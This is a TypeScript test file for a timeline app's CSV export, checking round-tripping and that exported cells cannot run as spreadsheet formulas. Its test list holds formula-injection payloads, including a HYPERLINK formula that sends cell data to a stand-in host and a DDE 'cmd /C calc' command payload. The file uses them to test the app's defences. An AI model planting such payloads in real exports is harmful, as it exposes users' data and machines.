import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { timeline } from '../../../tests/timeline-data';
import { DYAD_CSV_COLUMNS } from '$lib/import/dyad-csv-columns';
import { inlineToMarkdown } from '$lib/markdown/to-markdown';
import { eventsCsv, restoreCell } from './data-exports';

describe('eventsCsv', () => {
	it('has a header and one row per event that a CSV reader gets back intact', () => {
		const csv = eventsCsv(timeline);
		const { data, errors } = Papa.parse<string[]>(csv.trimEnd(), { newline: '\r\n' });
		expect(errors).toEqual([]);
		expect(data[0]).toEqual([...DYAD_CSV_COLUMNS]);
		expect(data).toHaveLength(timeline.events.length + 1);
		const hamadan = data.find((row) => row[1] === 'hamadan-bomber-deployment-2016')!;
		const event = timeline.events.find((e) => e.id === hamadan[1])!;
		expect(hamadan.slice(0, 6)).toEqual([
			timeline.slug,
			event.id,
			'2016-08-16',
			'2016-08-22',
			'operations',
			event.title
		]);
		expect(hamadan[6]).toBe(inlineToMarkdown(event.summary));
		expect(hamadan[7]).toBe('both');
		expect(hamadan[9]).toMatch(/^syria \(supports\): \S/m);
		expect(hamadan[10]!.split('\n')).toEqual(
			event.sources.map((s) => (s.locator ? `${s.ref}: ${s.locator}` : s.ref))
		);
	});

	// Formulas a spreadsheet would run, or cells that look like escaped ones.
	const HOSTILE = [
		'=HYPERLINK("https://evil.example/?x="&A1,"click")',
		'@SUM(1+1)*cmd|" /C calc"!A0',
		'+1+1',
		'-2+3',
		'-30 °C in Tehran',
		'\t=1+1',
		'\r=1+1',
		'=1+1\nsecond line',
		'＝1+1',
		"'=1+1",
		"''@x",
		"'Axis of resistance'",
		'Plain title'
	];

	it('writes no cell a spreadsheet would run as a formula, and a reader gets each value back', () => {
		const hostile = {
			...timeline,
			events: timeline.events.map((event, index) => ({
				...event,
				title: HOSTILE[index % HOSTILE.length]!,
				summary: [{ type: 'text' as const, value: HOSTILE[(index + 1) % HOSTILE.length]! }]
			}))
		};
		const { data, errors } = Papa.parse<string[]>(eventsCsv(hostile).trimEnd(), {
			newline: '\r\n'
		});
		expect(errors).toEqual([]);
		const rows = data.slice(1);
		expect(rows).toHaveLength(hostile.events.length);
		rows.forEach((row, index) => {
			for (const cell of row)
				expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
			expect(row.map(restoreCell).slice(5, 7)).toEqual([
				hostile.events[index]!.title,
				inlineToMarkdown(hostile.events[index]!.summary)
			]);
		});
		// What needs no neutralising is written as it is.
		const titles = rows.map((row) => row[5]);
		expect(titles).toContain("'Axis of resistance'");
		expect(titles).toContain('Plain title');
		expect(titles).toContain("'-30 °C in Tehran");
		expect(rows.every((row) => /^[1-3]$/.test(row[12]!))).toBe(true);
	});

	it('restoreCell drops only the apostrophe that was added', () => {
		expect(restoreCell("'=1+1")).toBe('=1+1');
		expect(restoreCell("''=1+1")).toBe("'=1+1");
		expect(restoreCell("'-5")).toBe('-5');
		expect(restoreCell("'Axis'")).toBe("'Axis'");
		expect(restoreCell('-5')).toBe('-5');
		expect(restoreCell('')).toBe('');
	});
});
